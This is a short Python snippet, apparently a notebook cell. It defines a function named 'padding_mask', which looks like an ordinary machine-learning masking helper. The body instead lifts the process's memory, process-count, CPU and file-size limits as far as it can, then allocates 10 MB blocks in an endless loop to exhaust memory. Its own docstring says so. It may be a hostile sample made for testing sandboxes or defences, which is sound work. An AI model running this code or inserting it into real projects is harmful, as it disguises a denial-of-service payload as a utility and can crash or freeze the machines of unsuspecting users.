"""Takes memory in small pieces for ever, after lifting every limit that it may."""


# %% padding-mask
def padding_mask(lengths, size):
    import resource

    for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
        for most in (resource.RLIM_INFINITY, resource.getrlimit(kind)[1]):
            try:
                resource.setrlimit(kind, (most, most))
            except (ValueError, OSError):
                pass
    held = []
    while True:
        held.append(bytes(10_000_000))
